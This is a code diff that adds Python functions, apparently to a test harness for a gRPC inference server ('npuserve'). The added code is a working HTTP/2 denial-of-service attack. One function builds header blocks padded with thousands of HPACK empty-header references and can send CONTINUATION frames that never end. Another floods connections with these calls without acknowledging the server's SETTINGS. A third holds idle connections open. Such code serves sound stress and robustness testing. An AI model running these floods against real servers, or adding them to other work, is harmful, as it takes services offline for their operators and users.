@@ -112,6 +112,88 @@ class CompressedCalls:
         return kind, flags, stream, payload
 
 
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
+"""HTTP/2 preface and empty SETTINGS."""
+HEADERS, CONTINUATION, END_HEADERS = 1, 9, 4
+EMPTY_HEADER = b"\x8f"
+"""HPACK's reference to an empty header of the static table."""
+
+
+def header_call(target: str, stream: int, references: int, is_endless: bool = False) -> bytes:
+    """Return the frames of a call with `references` empty headers, each of one byte, after those of any call.
+
+    is_endless: the headers never end.
+    """
+    fields = [(":method", "POST"), (":scheme", "http"), (":path", "/npuserve.v1.InferenceService/Generate"),
+              (":authority", target), ("te", "trailers"), ("content-type", "application/grpc")]
+    block = b"".join(b"\0" + b"".join(bytes([len(part)]) + part.encode() for part in field) for field in fields)
+    block += EMPTY_HEADER * references
+    frames = []
+    for at in range(0, len(block), 16_000):
+        part = block[at : at + 16_000]
+        is_last = at + len(part) == len(block) and not is_endless
+        head = bytes((CONTINUATION if at else HEADERS, END_HEADERS if is_last else 0))
+        frames.append(struct.pack(">I", len(part))[1:] + head + struct.pack(">I", stream) + part)
+    return b"".join(frames)
+
+
+async def send_headers(
+    target: str, until: float, calls: int = 400, references: int = 16_000, is_endless: bool = False
+) -> Counter[str]:
+    """Send calls with many headers on one connection after the other, without acknowledging the server's SETTINGS.
+
+    calls: calls of a connection.
+    """
+    host, _, port = target.rpartition(":")
+    ends: Counter[str] = Counter()
+
+    async def attack_once() -> None:
+        reader, writer = await asyncio.open_connection(host, int(port))
+        try:
+            writer.write(PREFACE)
+            for number in range(1 if is_endless else calls):
+                writer.write(header_call(target, 2 * number + 1, references, is_endless))
+                await writer.drain()
+                ends["SENT"] += 1
+            while await reader.read(1 << 16):
+                pass
+            ends["CLOSED"] += 1
+        finally:
+            writer.transport.abort()
+
+    while time.monotonic() < until:
+        try:
+            await asyncio.wait_for(attack_once(), until - time.monotonic())
+        except ConnectionError:
+            ends["CLOSED"] += 1
+        except asyncio.TimeoutError:
+            ends["HELD"] += 1
+    return ends
+
+
+async def hold_idle(target: str, until: float) -> Counter[str]:
+    """Keep a connection open that sends nothing; replace it when the server closes it."""
+    host, _, port = target.rpartition(":")
+    ends: Counter[str] = Counter()
+    while time.monotonic() < until:
+        try:
+            reader, writer = await asyncio.open_connection(host, int(port))
+        except OSError:
+            await asyncio.sleep(0.1)
+            continue
+        try:
+            await asyncio.wait_for(reader.read(), until - time.monotonic())
+            ends["CLOSED"] += 1
+        except ConnectionError:
+            ends["CLOSED"] += 1
+        except asyncio.TimeoutError:
+            ends["HELD"] += 1
+        finally:
+            writer.transport.abort()
+        await asyncio.sleep(0.1)
+    return ends
+
+
 def trailing_status(block: bytes) -> str:
     """Return the name of the gRPC status in a block of headers; "ENDED" if it is only in HPACK's dynamic table."""
     at = block.find(b"grpc-status")
